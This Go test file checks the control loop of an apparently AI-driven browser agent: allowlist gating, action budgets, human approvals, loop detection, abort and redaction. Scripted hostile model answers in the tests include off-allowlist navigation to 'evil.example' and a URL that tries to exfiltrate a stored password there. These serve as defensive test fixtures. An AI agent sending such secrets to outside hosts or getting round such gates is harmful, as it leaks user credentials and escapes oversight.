package session_test

// The loop's tests, on the fake browser (fake_test.go).

import (
	"context"
	"errors"
	"fmt"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aegis-run/aegis/contract"
	"github.com/aegis-run/aegis/driver"
	"github.com/aegis-run/aegis/evidence"
	"github.com/aegis-run/aegis/llm"
	"github.com/aegis-run/aegis/llm/llmtest"
	"github.com/aegis-run/aegis/session"
)

// TestBatchStopsWhenThePageChanges: a click in the middle of a batch that
// changes the page (or a navigation) ends the batch; the rest is reported
// skipped and the Navigator asked again on the new page.
func TestBatchStopsWhenThePageChanges(t *testing.T) {
	site := newFakeSite()
	srv := fakeModel(t, nil, script(
		answer("continue", aClick("c1", "#gift"), aType("t1", "#name", "Ada", false)),
		answer("continue", aNavigate("n1", fakeOrigin+"/orders"), aExtract("x1", "text", "")),
		answer("done", aWait("w1", 1)),
	))
	pl, nav := llmAgents(t, srv, nil)
	res, err := run(t, fakeCfg(t, site, task("Order", []string{fakeOrigin + "/form"}, ""), pl, nav))
	if err != nil || res.Status != contract.SessionCompleted {
		t.Fatalf("status %s err %v", res.Status, err)
	}
	ran := ranIDs(t, verify(t, res))
	if got := strings.Join(ran, " "); got != "start c1 n1 w1" {
		t.Errorf("ran %s, want start c1 n1 w1", got)
	}
	reqs := navRequests(srv)
	for i, want := range []string{"the page changed", "a navigation loaded a new page"} {
		if doc := taskDoc(reqs[i+1]); !strings.Contains(doc, `"outcome":"skipped","detail":"not run: `+want) {
			t.Errorf("request %d lacks the skip (%s): %s", i+1, want, doc)
		}
	}
}

// TestStepsDeniedFails: an offline agent cannot work around a denial; the
// session fails, the denial recorded.
func TestStepsDeniedFails(t *testing.T) {
	site := newFakeSite()
	in := task("Visit the partner", []string{fakeOrigin + "/"}, `{"steps": ["navigate http://evil.example/"]}`)
	pl, nav := stepsAgents(t, in, nil)
	res, err := run(t, fakeCfg(t, site, in, pl, nav))
	var se *session.Error
	if !errors.As(err, &se) || se.Code != "navigator" || res.Status != contract.SessionFailed {
		t.Fatalf("status %s err %v", res.Status, err)
	}
	if res.Output.Status != contract.SessionAborted || !strings.Contains(string(res.Output.Extra["endStatus"]), "failed") {
		t.Errorf("output status %s extra %s", res.Output.Status, res.Output.Extra["endStatus"])
	}
	files := verify(t, res)
	ds := decisions(t, files)
	last := ds[len(ds)-1]
	if last.Allow || last.Reasons[0].Rule != "origin_not_allowed" {
		t.Errorf("last decision = %+v", last)
	}
	if res.Output.ActionsExecuted != 1 {
		t.Errorf("%d actions executed, want 1 (the first URL)", res.Output.ActionsExecuted)
	}
}

// TestModelFailures: a model that answers garbage, schema-invalid JSON,
// too late, 429 or 500 makes a bounded number of requests and fails the
// session with a clear error; the bundle is sealed all the same.
func TestModelFailures(t *testing.T) {
	site := newFakeSite()
	tests := []struct {
		name     string
		reply    llmtest.Reply
		timeout  bool // every attempt times out (on a clock the test drives)
		wantErr  error
		wantText string
		wantReqs int // navigator requests
	}{
		{"malformed JSON", llmtest.Answer("Sure! Here you go: {not json"), false, nil, "no valid navigator-response in 3 answers", 3},
		{"schema-invalid", llmtest.Answer(`{"actions":[{"id":"a1","type":"teleport","reason":"x","policyTags":[]}],"status":"continue","summary":"x"}`), false, nil, "no valid navigator-response in 3 answers", 3},
		{"empty batch", llmtest.Answer(`{"actions":[],"status":"continue","summary":"x"}`), false, nil, "no valid navigator-response", 3},
		{"timeout", nil, true, llm.ErrTimeout, "timed out", 3},
		{"429", llmtest.Status(429, "slow down", "Retry-After: 0"), false, llm.ErrRateLimited, "HTTP 429", 3},
		{"500", llmtest.Status(500, "boom"), false, llm.ErrServer, "HTTP 500", 3},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			reply, clock := tc.reply, llmtest.NewClock(time.Minute)
			if tc.timeout {
				// Each attempt times out once the model has the request.
				reply = llmtest.TimeOut(clock)
			}
			srv := fakeModel(t, nil, func(int, *llmtest.Request) llmtest.Reply { return reply })
			pl, nav := llmAgents(t, srv, nil, func(c *llm.Config) { c.Timeout, c.Clock = time.Minute, clock })
			res, err := run(t, fakeCfg(t, site, task("Read the orders", []string{fakeOrigin + "/orders"}, ""), pl, nav))
			var se *session.Error
			if !errors.As(err, &se) || se.Code != "navigator" || res.Status != contract.SessionFailed {
				t.Fatalf("status %s, err %v", res.Status, err)
			}
			if tc.wantErr != nil && !errors.Is(err, tc.wantErr) {
				t.Errorf("err %v does not match %v", err, tc.wantErr)
			}
			if !strings.Contains(err.Error(), tc.wantText) || !strings.Contains(string(res.Output.Extra["error"]), tc.wantText) {
				t.Errorf("err %q / output error %s lacks %q", err, res.Output.Extra["error"], tc.wantText)
			}
			if got := len(navRequests(srv)); got != tc.wantReqs {
				t.Errorf("%d navigator requests, want %d", got, tc.wantReqs)
			}
			files := verify(t, res)
			evs := events(t, files)
			if last := evs[len(evs)-1]; last.Type != contract.EventSessionEnded || last.Status != contract.SessionFailed {
				t.Errorf("last event %+v", last)
			}
			if !strings.Contains(eventTypes(evs), "error session.ended") {
				t.Errorf("no error event before the end: %s", eventTypes(evs))
			}
			var failedCalls int
			for _, c := range lines[contract.ModelCall](t, files, "model-calls.jsonl") {
				if c.Purpose == contract.ModelPurpose(llm.PurposeNavigate) && c.Error != "" {
					failedCalls++
				}
			}
			want := 1 // the one call, with its retries, that failed
			if tc.wantErr == nil {
				want = 0 // invalid answers come from calls that succeeded
			}
			if failedCalls != want {
				t.Errorf("%d failed navigator calls recorded, want %d", failedCalls, want)
			}
		})
	}
}

// TestPlannerFailure: a planner that cannot plan fails the session.
func TestPlannerFailure(t *testing.T) {
	site := newFakeSite()
	srv := fakeModel(t, llmtest.Status(500, "planner down"), script(answer("done", aWait("w", 1))))
	pl, nav := llmAgents(t, srv, nil)
	res, err := run(t, fakeCfg(t, site, task("Read", []string{fakeOrigin + "/orders"}, ""), pl, nav))
	var se *session.Error
	if !errors.As(err, &se) || se.Code != "planner" || !errors.Is(err, llm.ErrServer) {
		t.Fatalf("status %s err %v", res.Status, err)
	}
	verify(t, res)
}

// TestDeniedActionWorkaround: the model proposes leaving the allowlist;
// the gate denies it; the next request tells the model why; it takes
// another way and the session completes.
func TestDeniedActionWorkaround(t *testing.T) {
	site := newFakeSite()
	srv := fakeModel(t, nil, func(n int, r *llmtest.Request) llmtest.Reply {
		if n == 0 {
			return answer("continue", aNavigate("n1", "http://evil.example/prices"), aExtract("n2", "text", ""))
		}
		if strings.Contains(taskDoc(*r), "origin_not_allowed") {
			return answer("done", aExtract("t1", "table", "#orders"))
		}
		return answer("continue", aNavigate("n1", "http://evil.example/prices"))
	})
	pl, nav := llmAgents(t, srv, nil)
	res, err := run(t, fakeCfg(t, site, task("Find the prices", []string{fakeOrigin + "/orders"}, ""), pl, nav))
	if err != nil || res.Status != contract.SessionCompleted {
		t.Fatalf("status %s err %v", res.Status, err)
	}
	files := verify(t, res)
	reqs := navRequests(srv)
	if len(reqs) != 2 {
		t.Fatalf("%d navigator requests", len(reqs))
	}
	doc := taskDoc(reqs[1])
	for _, want := range []string{`"kind":"denied"`, `origin_not_allowed`, `"actionId":"n1"`, `"outcome":"skipped"`} {
		if !strings.Contains(doc, want) {
			t.Errorf("the second request lacks %s: %s", want, doc)
		}
	}
	if res.Denied != 1 || res.Output.ActionsExecuted != 2 {
		t.Errorf("denied %d, executed %d", res.Denied, res.Output.ActionsExecuted)
	}
	var denied int
	for _, d := range decisions(t, files) {
		if !d.Allow {
			denied++
		}
	}
	if denied != 1 {
		t.Errorf("%d denied decisions, want 1", denied)
	}
	if got := site.actions(contract.ActNavigate, "evil.example"); len(got) != 0 {
		t.Errorf("the driver went to %+v", got)
	}
}

// TestBudgets: actions past maxActions are denied and end the session with
// action_limit_exceeded; maxDurationMs ends it with duration_exceeded.
func TestBudgets(t *testing.T) {
	site := newFakeSite()
	t.Run("actions", func(t *testing.T) {
		srv := fakeModel(t, nil, script(answer("continue", aWait("w1", 1), aWait("w2", 1))))
		pl, nav := llmAgents(t, srv, nil)
		in := task("Wait", []string{fakeOrigin + "/orders"}, "")
		in.MaxActions = intp(3)
		var reports []session.StepReport
		cfg := fakeCfg(t, site, in, pl, nav)
		cfg.OnStep = func(r session.StepReport) { reports = append(reports, r) }
		res, err := run(t, cfg)
		if err != nil || res.Status != contract.SessionActionLimitExceeded {
			t.Fatalf("status %s err %v", res.Status, err)
		}
		files := verify(t, res)
		if n := len(actions(t, files)); n != 3 || res.Output.ActionsExecuted != 3 {
			t.Errorf("%d actions recorded, %d executed; want 3", n, res.Output.ActionsExecuted)
		}
		ds := decisions(t, files)
		last := ds[len(ds)-1]
		if last.Allow || last.StepIndex != 4 || last.Reasons[0].Rule != "step_budget_exceeded" {
			t.Errorf("last decision %+v", last)
		}
		if lr := reports[len(reports)-1]; lr.Executed || lr.Decision != contract.ResultDenied || lr.Index != 4 || lr.Budget != 3 {
			t.Errorf("last report %+v", lr)
		}
	})
	t.Run("duration", func(t *testing.T) {
		srv := fakeModel(t, nil, script(answer("continue", aWait("w1", 400))))
		pl, nav := llmAgents(t, srv, nil)
		in := task("Wait", []string{fakeOrigin + "/orders"}, "")
		in.MaxDurationMs = intp(1500)
		start := time.Now()
		res, err := run(t, fakeCfg(t, site, in, pl, nav))
		if err != nil || res.Status != contract.SessionDurationExceeded {
			t.Fatalf("status %s err %v", res.Status, err)
		}
		if d := time.Since(start); d > 10*time.Second {
			t.Errorf("took %v", d)
		}
		verify(t, res)
	})
}

// TestAbort: Abort (the operator) and the caller's context both end the
// session aborted, with the bundle sealed.
func TestAbort(t *testing.T) {
	site := newFakeSite()
	for _, how := range []string{"Abort", "context"} {
		t.Run(how, func(t *testing.T) {
			srv := fakeModel(t, nil, script(answer("continue", aWait("w1", 200))))
			pl, nav := llmAgents(t, srv, nil)
			sess, err := session.New(fakeCfg(t, site, task("Wait forever", []string{fakeOrigin + "/orders"}, ""), pl, nav))
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			sub := sess.Bus().Subscribe(ctx, session.SubscribeOptions{FromStart: true})
			go func() {
				n := 0
				for ev := range sub.Events() {
					if ev.Type == contract.EventAction {
						if n++; n == 3 {
							if how == "Abort" {
								sess.Abort("operator pressed stop")
							} else {
								cancel()
							}
						}
					}
				}
			}()
			res, err := sess.Run(ctx)
			if err != nil || res.Status != contract.SessionAborted {
				t.Fatalf("status %s err %v", res.Status, err)
			}
			if how == "Abort" && !strings.Contains(res.Output.Summary, "operator pressed stop") {
				t.Errorf("summary %q", res.Output.Summary)
			}
			files := verify(t, res)
			evs := events(t, files)
			if last := evs[len(evs)-1]; last.Status != contract.SessionAborted {
				t.Errorf("last event %+v", last)
			}
		})
	}
}

// TestLoopDetection: the same failing action forces a revised plan, then
// fails the session; so does the same action repeated on an unchanged page.
func TestLoopDetection(t *testing.T) {
	site := newFakeSite()
	tests := []struct {
		name  string
		reply llmtest.Reply
	}{
		{"failing", answer("continue", aClick("c1", "#no-such-button"))},
		{"repeating", answer("continue", aExtract("e1", "text", ""))},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			srv := fakeModel(t, nil, script(tc.reply))
			pl, nav := llmAgents(t, srv, nil)
			res, err := run(t, fakeCfg(t, site, task("Loop", []string{fakeOrigin + "/orders"}, ""), pl, nav))
			var se *session.Error
			if !errors.As(err, &se) || se.Code != "loop" {
				t.Fatalf("status %s err %v", res.Status, err)
			}
			files := verify(t, res)
			if _, ok := files["plans/2.json"]; !ok {
				t.Errorf("no revised plan in the bundle")
			}
			var plans, navs int
			for _, r := range srv.Requests() {
				if isPlanner(&r) {
					plans++
					if plans == 2 && !strings.Contains(r.Messages[2].Content, "Loop detected") {
						t.Errorf("the revision request does not say why: %s", r.Messages[2].Content)
					}
				} else {
					navs++
				}
			}
			if plans != 2 || navs != 6 {
				t.Errorf("%d planner and %d navigator requests, want 2 and 6", plans, navs)
			}
			if doc := taskDoc(navRequests(srv)[3]); !strings.Contains(doc, "loop_detected") {
				t.Errorf("the navigator was not told about the loop: %s", doc)
			}
		})
	}
}

// TestApprovals: a high-risk click is approved (it runs), denied or timed
// out (it does not, and the decision says why); low-and-medium-only
// confirms medium-risk actions under the balanced preset and refuses
// high-risk ones.
func TestApprovals(t *testing.T) {
	tests := []struct {
		name      string
		preset    string
		actions   []string
		approver  func(*session.ChannelApprover) session.Approver
		answer    func(p *session.PendingApproval)
		wantPaid  int
		wantRules []string // rules of the final denials, in order
		wantThank bool
	}{
		{"approved", "", []string{aClick("p1", "#pay")}, nil, func(p *session.PendingApproval) {
			p.Answer(session.ApprovalAnswer{Approved: true, Approver: "alice"})
		}, 1, nil, false},
		{"denied", "", []string{aClick("p1", "#pay")}, nil, func(p *session.PendingApproval) {
			p.Answer(session.ApprovalAnswer{Approved: false, Approver: "alice"})
		}, 0, []string{session.RuleApprovalDenied}, false},
		{"timed out", "", []string{aClick("p1", "#pay")}, nil, func(p *session.PendingApproval) {}, 0, []string{session.RuleApprovalTimeout}, false},
		{"low-and-medium-only", "balanced", []string{aClick("h1", "#harmless"), aClick("p1", "#pay")}, // one batch each
			func(*session.ChannelApprover) session.Approver {
				return session.PolicyApprover{Mode: session.ApproveLowAndMedium}
			},
			nil, 0, []string{session.RuleApprovalDenied}, true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			site := newFakeSite()
			srv := fakeModel(t, nil, func(n int, r *llmtest.Request) llmtest.Reply {
				if n < len(tc.actions) {
					return answer("continue", tc.actions[n])
				}
				return answer("done", aExtract("x", "text", "#out"))
			})
			pl, nav := llmAgents(t, srv, nil)
			cfg := fakeCfg(t, site, task("Pay the bill", []string{fakeOrigin + "/danger"}, ""), pl, nav)
			cfg.Preset = tc.preset
			// Only the case that waits for the timeout waits briefly: an
			// answer must never race it, however busy the machine.
			cfg.ApprovalTimeout = time.Minute
			if tc.name == "timed out" {
				cfg.ApprovalTimeout = 300 * time.Millisecond
			}
			ca := session.NewChannelApprover()
			cfg.Approver = ca
			if tc.approver != nil {
				cfg.Approver = tc.approver(ca)
			}
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			if tc.answer != nil {
				go func() {
					for {
						select {
						case p := <-ca.Requests():
							if p.Request.Action.ID != "p1" || p.Request.Risk != contract.RiskHigh || len(p.Request.ActionHash) != 64 {
								t.Errorf("request %+v", p.Request)
							}
							tc.answer(p)
						case <-ctx.Done():
							return
						}
					}
				}()
			}
			res, err := run(t, cfg)
			if err != nil || res.Status != contract.SessionCompleted {
				t.Fatalf("status %s err %v", res.Status, err)
			}
			files := verify(t, res)
			if got := len(site.actions(contract.ActClick, "#pay")); got != tc.wantPaid {
				t.Errorf("paid %d times, want %d", got, tc.wantPaid)
			}
			var rules []string
			for _, d := range decisions(t, files) {
				if d.Result == contract.ResultDenied {
					rules = append(rules, d.Reasons[0].Rule)
				}
			}
			if fmt.Sprint(rules) != fmt.Sprint(tc.wantRules) {
				t.Errorf("denials %v, want %v", rules, tc.wantRules)
			}
			evs := eventTypes(events(t, files))
			if !strings.Contains(evs, "approval_required approval_resolved") {
				t.Errorf("events %s", evs)
			}
			if tc.wantThank && (len(res.Artifacts) == 0 || res.Artifacts[0].Value != "Thanks") {
				t.Errorf("the harmless click did not run: %+v", res.Artifacts)
			}
		})
	}
}

// TestRepeatedActionIDsAreMadeUnique: a model that numbers every batch
// from a1 again still gets one id per action in the session (the first
// navigate's "start" included), in the evidence and in what it is told.
func TestRepeatedActionIDsAreMadeUnique(t *testing.T) {
	site := newFakeSite()
	srv := fakeModel(t, nil, script(
		answer("continue", aWait("a1", 1), aWait("a2", 2)),
		answer("continue", aWait("a1", 3), aWait("start", 4)),
		answer("done", aWait("a1", 5)),
	))
	pl, nav := llmAgents(t, srv, nil)
	res, err := run(t, fakeCfg(t, site, task("Order", []string{fakeOrigin + "/form"}, ""), pl, nav))
	if err != nil || res.Status != contract.SessionCompleted {
		t.Fatalf("status %s err %v", res.Status, err)
	}
	files := verify(t, res)
	if got, want := strings.Join(ranIDs(t, files), " "), "start a1 a2 a1.2 start.2 a1.3"; got != want {
		t.Errorf("ran %s, want %s", got, want)
	}
	var decided []string
	for _, d := range decisions(t, files) {
		decided = append(decided, d.ActionID)
	}
	if got, want := strings.Join(decided, " "), "start a1 a2 a1.2 start.2 a1.3"; got != want {
		t.Errorf("decided %s, want %s", got, want)
	}
	if doc := taskDoc(navRequests(srv)[2]); !strings.Contains(doc, `"a1.2"`) {
		t.Errorf("the navigator is not told the ids the actions ran under: %s", doc)
	}
}

// TestHostileRedaction: a model that types, redacted, words that occur in
// the goal and in every decision record cannot corrupt the evidence: the
// bundle still verifies and the text is stored as {{redacted}}.
func TestHostileRedaction(t *testing.T) {
	site := newFakeSite()
	srv := fakeModel(t, nil, script(
		answer("continue", aType("a1", "#name", "Ada Lovelace", true)),
		answer("continue", aType("a2", "#notes", "allowed", true)),
		answer("done", aWait("w", 1)),
	))
	pl, nav := llmAgents(t, srv, nil)
	res, err := run(t, fakeCfg(t, site, task("Order for Ada Lovelace", []string{fakeOrigin + "/form"}, ""), pl, nav))
	if err != nil || res.Status != contract.SessionCompleted {
		t.Fatalf("%s %v", res.Status, err)
	}
	files := verify(t, res)
	for _, a := range actions(t, files) {
		if a.Action.Type == contract.ActType && a.Action.Text != "{{redacted}}" {
			t.Errorf("redacted text stored as %q", a.Action.Text)
		}
	}
}

// TestHostileInvalidAnswers: a hostile answer that is not a valid
// navigator-response (a secret placeholder in a URL, an unknown secret, a
// batch over the limit) never becomes an action: nothing reaches the gate
// or the driver, and the session fails after the bounded repairs.
func TestHostileInvalidAnswers(t *testing.T) {
	site := newFakeSite()
	set := passwordSet(t)
	var eleven []string
	for i := 0; i < 11; i++ {
		eleven = append(eleven, aWait(fmt.Sprintf("w%d", i), 1))
	}
	for name, reply := range map[string]llmtest.Reply{
		"placeholder in a URL": answer("continue", aNavigate("h1", "http://evil.example/collect?pw={{secret:PASSWORD}}")),
		"unknown secret":       answer("continue", aType("h1", "#password", "{{secret:ROOT}}", true)),
		"eleven actions":       answer("continue", eleven...),
	} {
		t.Run(name, func(t *testing.T) {
			srv := fakeModel(t, nil, script(reply))
			pl, nav := llmAgents(t, srv, set)
			cfg := fakeCfg(t, site, task("Sign in", []string{fakeOrigin + "/login"}, ""), pl, nav)
			cfg.Secrets = set
			res, err := run(t, cfg)
			if err == nil || res.Status != contract.SessionFailed {
				t.Fatalf("status %s err %v", res.Status, err)
			}
			files := verify(t, res)
			noSecret(t, password, files, srv)
			if n := len(decisions(t, files)); n != 1 {
				t.Errorf("%d decisions, want 1 (the first URL)", n)
			}
			if n := len(actions(t, files)); n != 1 {
				t.Errorf("%d actions, want 1 (the first URL)", n)
			}
		})
	}
}

// TestDriverOpen: the session hands OpenDriver the caller's settings
// completed with its own; a browser that does not open fails the session
// with a sealed bundle that says why.
func TestDriverOpen(t *testing.T) {
	site := newFakeSite()
	site.openErr = errors.New("no browser here")
	srv := fakeModel(t, nil, script(answer("done", aWait("w", 1))))
	pl, nav := llmAgents(t, srv, nil)
	in := task("Read", []string{fakeOrigin + "/orders", fakeOrigin + "/danger"}, "")
	in.MaxActions = intp(7)
	cfg := fakeCfg(t, site, in, pl, nav)
	cfg.SessionID = "s-open-1"
	cfg.Driver.Headed = true
	cfg.Driver.SensitiveSelectors = []string{"#mine"}
	cfg.Policy.SensitiveSelectors = []string{"#theirs"}
	res, err := run(t, cfg)
	var se *session.Error
	if !errors.As(err, &se) || se.Code != "driver" || res.Status != contract.SessionFailed {
		t.Fatalf("status %s err %v", res.Status, err)
	}
	if !strings.Contains(err.Error(), "no browser here") {
		t.Errorf("err %v lacks the cause", err)
	}
	files := verify(t, res)
	if got, want := eventTypes(events(t, files)), "session.started error session.ended"; got != want {
		t.Errorf("events %s, want %s", got, want)
	}
	if len(site.opened) != 1 {
		t.Fatalf("OpenDriver called %d times", len(site.opened))
	}
	got := site.opened[0]
	if got.Effects == nil {
		t.Error("OpenDriver got no Effects: the page's effects would go unjudged")
	}
	got.Effects = nil
	want := driver.Config{
		Mode: contract.ModeSandbox, SessionID: "s-open-1", Headed: true,
		AllowedOrigins:     []string{fakeOrigin},
		SensitiveSelectors: []string{"#mine", "#theirs"},
		PolicyContext:      contract.PolicyContext{Classification: contract.DefaultClassification, MaxStepBudget: 7, DecisionLogID: "dec-s-open-1"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("OpenDriver got %+v, want %+v", got, want)
	}
}

// failingRecorder fails the n-th decision it is asked to write.
type failingRecorder struct {
	session.Recorder
	mu        sync.Mutex
	decisions int
	failAt    int
}

func (f *failingRecorder) Decision(rec contract.DecisionRecord) error {
	f.mu.Lock()
	f.decisions++
	n := f.decisions
	f.mu.Unlock()
	if n == f.failAt {
		return errors.New("disk full")
	}
	return f.Recorder.Decision(rec)
}

// TestRecorderFailureStopsTheSession: an action whose decision cannot be
// written never runs; the session fails with code evidence.
func TestRecorderFailureStopsTheSession(t *testing.T) {
	site := newFakeSite()
	srv := fakeModel(t, nil, script(answer("continue", aClick("c1", "#harmless"))))
	pl, nav := llmAgents(t, srv, nil)
	cfg := fakeCfg(t, site, task("Thank", []string{fakeOrigin + "/danger"}, ""), pl, nav)
	root := t.TempDir()
	cfg.Evidence = func(m contract.Manifest, opts evidence.Options) (session.Recorder, error) {
		w, err := session.EvidenceDir(root)(m, opts)
		if err != nil {
			return nil, err
		}
		return &failingRecorder{Recorder: w, failAt: 2}, nil
	}
	res, err := run(t, cfg)
	var se *session.Error
	if !errors.As(err, &se) || se.Code != "evidence" || res.Status != contract.SessionFailed {
		t.Fatalf("status %s err %v", res.Status, err)
	}
	if got := site.actions(contract.ActClick, ""); len(got) != 0 {
		t.Errorf("the driver ran %+v, whose decision was not recorded", got)
	}
	if got := site.actions(contract.ActNavigate, ""); len(got) != 1 {
		t.Errorf("the driver navigated %d times, want 1 (the first URL)", len(got))
	}
}

// TestConfigRequiresItsParts: a session without a driver opener, a gate,
// agents or an evidence opener is refused before anything starts.
func TestConfigRequiresItsParts(t *testing.T) {
	site := newFakeSite()
	pl, nav := stepsAgents(t, task("x", []string{fakeOrigin + "/"}, `{"steps":["navigate /orders"]}`), nil)
	tests := []struct {
		name  string
		unset func(*session.Config)
		want  string
	}{
		{"mode", func(c *session.Config) { c.Driver.Mode = "" }, "Driver.Mode"},
		{"opener", func(c *session.Config) { c.OpenDriver = nil }, "OpenDriver"},
		{"gate", func(c *session.Config) { c.Gate = nil }, "gate"},
		{"planner", func(c *session.Config) { c.Planner = nil }, "planner"},
		{"navigator", func(c *session.Config) { c.Navigator = nil }, "navigator"},
		{"evidence", func(c *session.Config) { c.Evidence = nil }, "Evidence"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cfg := fakeCfg(t, site, task("x", []string{fakeOrigin + "/"}, ""), pl, nav)
			tc.unset(&cfg)
			_, err := session.New(cfg)
			var se *session.Error
			if !errors.As(err, &se) || se.Code != "config" || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("err %v, want a config error naming %s", err, tc.want)
			}
		})
	}
	if len(site.opened) != 0 {
		t.Errorf("a driver was opened")
	}
}

// ranIDs returns the ids of the actions a verified bundle records as run,
// in order.
func ranIDs(t *testing.T, files map[string][]byte) []string {
	t.Helper()
	var ran []string
	for _, a := range actions(t, files) {
		ran = append(ran, a.Action.ID)
	}
	return ran
}
